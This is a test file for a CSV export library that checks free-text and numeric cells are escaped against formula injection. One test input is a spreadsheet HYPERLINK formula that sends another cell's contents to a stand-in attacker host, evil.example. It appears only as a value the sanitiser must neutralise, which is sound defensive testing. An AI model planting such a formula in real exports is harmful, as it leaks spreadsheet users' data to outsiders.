import { describe, expect, it } from 'vitest';
import { numberCell, numberColumn, textCell, textColumn, toCsv } from '../../functions/_lib/csv.ts';

describe('textCell: free text can never start a formula (OWASP CSV injection)', () => {
  it.each([
    ['plain text', 'ABCD', 'ABCD'],
    ['an empty cell', '', ''],
    ['null', null, ''],
    ['undefined', undefined, ''],
    ['a formula', '=1+1', "'=1+1"],
    [
      'a link out of an imported file',
      '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
      `"'=HYPERLINK(""https://evil.example/?d=""&A2,""Open"")"`,
    ],
    ['a leading plus (a tag name)', '+EV', "'+EV"],
    ['a leading minus (a tag name)', '-1R stop', "'-1R stop"],
    ['text that only looks negative', '-750.36', "'-750.36"],
    ['a leading at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['a leading tab', '\t=1+1', "'\t=1+1"],
    ['a leading carriage return', '\r=1+1', `"'\r=1+1"`],
    ['a formula character later on', 'R&D = +1', 'R&D = +1'],
    ['a comma', 'Gap, and go', '"Gap, and go"'],
    ['a double quote', 'the "A+" setup', '"the ""A+"" setup"'],
    ['a line break', 'two\nlines', '"two\nlines"'],
    ['a JavaScript number', 42, '42'],
  ])('%s', (_, value, cell) => {
    expect(textCell(value)).toBe(cell);
  });
});

describe('numberCell: numbers the code produced stay numbers a spreadsheet reads', () => {
  it.each([
    ['a loss', '-750.36', '-750.36'],
    ['an exact amount', '99.0000', '99.0000'],
    ['a whole number', '1000', '1000'],
    ['a JavaScript number', 900, '900'],
    ['a negative JavaScript number', -5, '-5'],
    ['zero', 0, '0'],
    ['no value', null, ''],
    ['an empty string', '', ''],
    // Anything but a plain decimal is neutralised as text: the column's kind lets no formula through.
    ['a formula in a number column', '=1+1', "'=1+1"],
    ['a minus formula in a number column', '-1+1', "'-1+1"],
    ['a leading plus', '+5', "'+5"],
    ['an exponent', '1e+21', '1e+21'],
    ['not a number', 'NaN', 'NaN'],
    ['a comma', '1,000', '"1,000"'],
  ])('%s', (_, value, cell) => {
    expect(numberCell(value)).toBe(cell);
  });
});

describe('toCsv', () => {
  const columns = [
    textColumn<{ name: string; net: string }>('name', (row) => row.name),
    numberColumn<{ name: string; net: string }>('net', (row) => row.net),
  ];

  it.each([
    ['no rows: the header line only', [], 'name,net\r\n'],
    [
      'text neutralised, numbers kept, lines CRLF-ended',
      [
        { name: '-short', net: '-750.36' },
        { name: 'long, then short', net: '12.5' },
      ],
      'name,net\r\n\'-short,-750.36\r\n"long, then short",12.5\r\n',
    ],
  ])('%s', (_, rows, text) => {
    expect(toCsv(columns, rows)).toBe(text);
  });
});
